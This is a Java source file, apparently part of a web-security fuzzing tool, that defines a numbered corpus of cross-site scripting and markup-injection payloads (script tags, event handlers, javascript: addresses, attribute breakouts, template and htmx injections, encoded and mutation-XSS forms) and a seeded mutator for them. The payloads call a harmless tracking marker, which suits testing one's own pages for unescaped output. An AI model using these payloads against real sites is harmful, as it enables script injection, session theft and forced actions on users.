package dev.countersign.attacks;

import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Random;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/// Texts that become code or markup where a page writes them as they are: script, event handlers, addresses that run, attributes
/// of htmx, ends of attributes and elements, encoded forms, markup that changes when it is parsed twice. Each carries its number,
/// so that who finds one in a page knows which it is and where it was put; each is made by number and seed alone.
final class Payloads {
    /// The word by which a payload is known: followed by its number, also after a sign or two.
    static final String WORD = "pwned";

    /// Where the number stands.
    private static final String NUMBER = "¤";
    private static final Pattern MARK = Pattern.compile("_*pwned[^¤]{0,2}¤");

    private static final List<String> SCRIPTS = List.of(
            "<script>__pwned(¤)</script>",
            "<ScRiPt/x>__pwned(¤)</sCrIpT>",
            "\"><script>__pwned(¤)</script>",
            "'><script>__pwned(¤)</script>",
            "</textarea><script>__pwned(¤)</script>",
            "</title><script>__pwned(¤)</script>",
            "</script><script>__pwned(¤)</script>",
            "</code></pre><script>__pwned(¤)</script>",
            "</option></select><script>__pwned(¤)</script>",
            "--><script>__pwned(¤)</script><!--",
            "]]><script>__pwned(¤)</script>",
            "<scr<script>ipt>__pwned(¤)</scr</script>ipt>",
            "<script src=/pwned/¤></script>",
            "<script src=\"data:text/javascript,__pwned(¤)\"></script>",
            "<script type=module>import '/pwned/¤'</script>",
            "<svg><script>__pwned(¤)</script></svg>",
            "<svg><script href=\"data:text/javascript,__pwned(¤)\"/>",
            "<script>__pwned(¤)//",
            "<link rel=stylesheet href=/pwned/¤>",
            "<style>@import '/pwned/¤';</style>",
            "<base href=/pwned/¤/>",
            "<meta http-equiv=refresh content=\"0;url=/pwned/¤\">");

    private static final List<String> HANDLERS = List.of(
            "<img src=x onerror=__pwned(¤)>",
            "<img src=x onerror=\"__pwned(¤)\" data-pwned-¤>",
            "<img/src/onerror=__pwned(¤)>",
            "<image src=x onerror=__pwned(¤)>",
            "<svg onload=__pwned(¤)>",
            "<svg/onload=__pwned(¤)//",
            "<body onload=__pwned(¤)>",
            "<body onpageshow=__pwned(¤)>",
            "<details open ontoggle=__pwned(¤)>",
            "<input autofocus onfocus=__pwned(¤)>",
            "<select autofocus onfocus=__pwned(¤)>",
            "<video><source onerror=__pwned(¤)>",
            "<audio src=x onerror=__pwned(¤)>",
            "<object data=x onerror=__pwned(¤)>",
            "<svg><animate onbegin=__pwned(¤) attributeName=x dur=1s>",
            "<style onload=__pwned(¤)></style>",
            "<div onpointerover=__pwned(¤)>x</div>",
            "<pwned-¤ style=animation-name:x onanimationstart=__pwned(¤)>",
            "<x contenteditable onblur=__pwned(¤)>x",
            "<iframe onload=__pwned(¤)></iframe>",
            "<iframe srcdoc=\"<script>parent.__pwned(¤)</script>\"></iframe>");

    private static final List<String> ADDRESSES = List.of(
            "javascript:__pwned(¤)",
            "JaVaScRiPt:__pwned(¤)",
            "java\tscript:__pwned(¤)",
            " javascript:__pwned(¤)",
            "javascript://%0a__pwned(¤)",
            "data:text/html,<script>__pwned(¤)</script>",
            "vbscript:__pwned(¤)",
            "//pwned¤.example/",
            "https://pwned¤.example/",
            "<a href=javascript:__pwned(¤)>x</a>",
            "<a href=\"java&Tab;script:__pwned(¤)\">x</a>",
            "<form action=javascript:__pwned(¤)><button>x</button></form>",
            "<button formaction=javascript:__pwned(¤)>x</button>",
            "<iframe src=javascript:parent.__pwned(¤)></iframe>",
            "<svg><a xlink:href=javascript:__pwned(¤)><text y=9>x</text></a></svg>",
            "<svg><a><animate attributeName=href values=javascript:__pwned(¤) /><text y=9>x</text></a></svg>",
            "<math><mi xlink:href=javascript:__pwned(¤)>x</mi></math>",
            "<embed src=javascript:__pwned(¤)>");

    private static final List<String> BREAKOUTS = List.of(
            "\" onmouseover=\"__pwned(¤)",
            "' onmouseover='__pwned(¤)",
            "` onmouseover=`__pwned(¤)",
            "\" autofocus onfocus=\"__pwned(¤)\" x=\"",
            "' autofocus onfocus='__pwned(¤)' x='",
            "x onclick=__pwned(¤) ",
            "\"><pwned-¤>",
            "'><pwned-¤>",
            "><pwned-¤>",
            "/><pwned-¤/>",
            "\" data-pwned-¤=\"",
            "' data-pwned-¤='",
            "\n data-pwned-¤ ",
            "\" style=\"background:url(/pwned/¤)",
            "';__pwned(¤)//",
            "\";__pwned(¤)//",
            "\\\";__pwned(¤)//",
            "`${__pwned(¤)}`",
            "*/__pwned(¤)/*",
            "\u2028__pwned(¤)\u2028");

    private static final List<String> TEMPLATES = List.of(
            "{{__pwned(¤)}}",
            "{{constructor.constructor('__pwned(¤)')()}}",
            "${__pwned(¤)}",
            "[[${'<script>__pwned(¤)</script>'}]]",
            "[(${'<script>__pwned(¤)</script>'})]",
            "<%= __pwned(¤) %>",
            "#{__pwned(¤)}",
            "<th:block th:utext=\"'<pwned-¤>'\">",
            "<div v-html=\"'<pwned-¤>'\" x-data x-init=\"__pwned(¤)\">");

    private static final List<String> ENCODED = List.of(
            "&lt;script&gt;__pwned(¤)&lt;/script&gt;",
            "&amp;lt;img src=x onerror=__pwned(¤)&amp;gt;",
            "&#60;img src=x onerror=__pwned(¤)&#62;",
            "&#x3c;pwned-¤&#x3e;",
            "&quot; onmouseover=&quot;__pwned(¤)",
            "&quot;&gt;&lt;pwned-¤&gt;",
            "%3Cscript%3E__pwned(¤)%3C/script%3E",
            "%253Cimg%20src=x%20onerror=__pwned(¤)%253E",
            "\\u003cimg src=x onerror=__pwned(¤)\\u003e",
            "\\x3cimg src=x onerror=__pwned(¤)\\x3e",
            "+ADw-script+AD4-__pwned(¤)+ADw-/script+AD4-",
            "\uff1cscript\uff1e__pwned(¤)\uff1c/script\uff1e",
            "<\u200bscript>__pwned(¤)</script>",
            "\u202e<img src=x onerror=__pwned(¤)>",
            "&#106;avascript:__pwned(¤)");

    private static final List<String> REPARSED = List.of(
            "<noscript><p title=\"</noscript><img src=x onerror=__pwned(¤)>\">",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=__pwned(¤)&gt;\">",
            "<svg></p><style><a id=\"</style><img src=1 onerror=__pwned(¤)>\">",
            "<form><math><mtext></form><form><mglyph><style></math><img src onerror=__pwned(¤)>",
            "<math><annotation-xml encoding=text/html><img src=x onerror=__pwned(¤)>",
            "<svg><foreignObject><img src=x onerror=__pwned(¤)></foreignObject></svg>",
            "<template><img src=x onerror=__pwned(¤)></template>",
            "<template shadowrootmode=open><img src=x onerror=__pwned(¤)></template>",
            "<select><template><img src=x onerror=__pwned(¤)></template></select>",
            "<!--><img src=x onerror=__pwned(¤)>-->",
            "<!-- --!><img src=x onerror=__pwned(¤)>",
            "<![CDATA[><img src=x onerror=__pwned(¤)>]]>",
            "<?xml ><img src=x onerror=__pwned(¤)>?>",
            "<xmp><p title=\"</xmp><img src=x onerror=__pwned(¤)>\">",
            "<table><td><pwned-¤></table>",
            "<textarea><p title=\"</textarea><img src=x onerror=__pwned(¤)>\">",
            "</p><pwned-¤>",
            "</main></body></html><pwned-¤>",
            "<pwned-¤");

    private static final List<String> HTMX = List.of(
            "<div hx-get=\"/pwned/¤\" hx-trigger=\"load\"></div>",
            "<div data-hx-get=\"/pwned/¤\" data-hx-trigger=\"load\"></div>",
            "<div hx-post=\"/sign-out\" hx-trigger=\"load\" data-pwned-¤></div>",
            "<div hx-delete='/pwned/¤' hx-trigger='load delay:1ms'></div>",
            "<div hx-get=\"//pwned¤.example/\" hx-trigger=\"load\"></div>",
            "<div hx-get=\"/me\" hx-trigger=\"load\" hx-vals='js:{x:__pwned(¤)}'></div>",
            "<div hx-get=\"/me\" hx-trigger=\"load\" hx-headers='javascript:{x:__pwned(¤)}'></div>",
            "<div hx-get=\"/me\" hx-trigger=\"load[__pwned(¤)]\"></div>",
            "<div hx-get=\"/me\" hx-trigger=\"load, every 1s [__pwned(¤)]\"></div>",
            "<div hx-on:htmx:load=\"__pwned(¤)\" hx-on::load=\"__pwned(¤)\">x</div>",
            "<div hx-on=\"htmx:load: __pwned(¤)\">x</div>",
            "<div data-hx-on-click=\"__pwned(¤)\">x</div>",
            "<div hx-boost=true><a href=/pwned/¤ autofocus>x</a></div>",
            "<div hx-ext=\"pwned-¤\" hx-history-elt hx-disinherit=\"*\" data-pwned-¤>x</div>",
            "<div id=main hx-swap-oob=true data-pwned-¤>x</div>",
            "<div hx-ext=sse sse-connect=\"/pwned/¤\">x</div>",
            "<div hx-sse=\"connect:/pwned/¤\" hx-ws=\"connect:/pwned/¤\">x</div>",
            "<meta name=htmx-config content='{\"allowEval\":true}' data-pwned-¤>",
            "<div _=\"on load call __pwned(¤)\" data-script=\"on load call __pwned(¤)\" data-pwned-¤>x</div>",
            "\" hx-get=\"/pwned/¤\" hx-trigger=\"load",
            "' hx-get='/pwned/¤' hx-trigger='load",
            "\" data-hx-post=\"/pwned/¤\" data-hx-trigger=\"load\" x=\"",
            "\" hx-vals=\"js:{x:__pwned(¤)}\" hx-get=\"/me\" hx-trigger=\"load",
            "\" hx-on::load=\"__pwned(¤)",
            "\" hx-select-oob=\"#main\" hx-target=\"body\" data-pwned-¤=\"",
            "js:{x:__pwned(¤)}",
            "load[__pwned(¤)]");

    static final List<String> CORPUS = corpus();

    private static final List<String> BEFORE = List.of("\"", "'", "\">", "'>", "-->", "</textarea>", "</title>", "</script>", "</style>", "]]>", "\n", "\t", "<", "<<", "&", "\\", "x ", "\u200b", "\uff1c");
    private static final List<String> GAPS = List.of("\t", "\n", "\r", "\f", "/", "  ", "\u00a0", "/ /");

    private final Random random;

    Payloads(long seed) {
        random = new Random(seed);
    }

    private static List<String> corpus() {
        List<String> all = new ArrayList<>();
        List.of(SCRIPTS, HANDLERS, ADDRESSES, BREAKOUTS, TEMPLATES, ENCODED, REPARSED, HTMX).forEach(all::addAll);
        return List.copyOf(all);
    }

    /// The `at`th of the corpus; beyond its end, mutants of it.
    String template(int at) {
        String text = CORPUS.get(at % CORPUS.size());
        for (int turns = at < CORPUS.size() ? 0 : 1 + random.nextInt(3); turns > 0; turns--) {
            text = mutated(text);
        }
        return text;
    }

    static String armed(String template, int number) {
        return template.replace(NUMBER, Integer.toString(number));
    }

    /// Everything but the mark itself may change.
    private String mutated(String text) {
        Matcher mark = MARK.matcher(text);
        StringBuilder changed = new StringBuilder();
        int kind = random.nextInt(7);
        int at = 0;
        while (mark.find()) {
            changed.append(mutated(text.substring(at, mark.start()), kind)).append(mark.group());
            at = mark.end();
        }
        return changed.append(mutated(text.substring(at), kind)).toString();
    }

    private String mutated(String text, int kind) {
        return switch (kind) {
            case 0 -> text.chars().mapToObj(Character::toString).map(c -> random.nextBoolean() ? c.toUpperCase(Locale.ROOT) : c).collect(java.util.stream.Collectors.joining());
            case 1 -> text.replace(" ", GAPS.get(random.nextInt(GAPS.size())));
            case 2 -> BEFORE.get(random.nextInt(BEFORE.size())) + text;
            case 3 -> text.replace('"', '\'');
            case 4 -> text.replace("<", "&lt;").replace("\"", "&quot;");
            case 5 -> text.isEmpty() ? text : text.substring(0, text.length() - random.nextInt(Math.min(3, text.length())));
            default -> text.replace("<", "<" + List.of("", "\n", "/", "!", "a ").get(random.nextInt(5)));
        };
    }
}
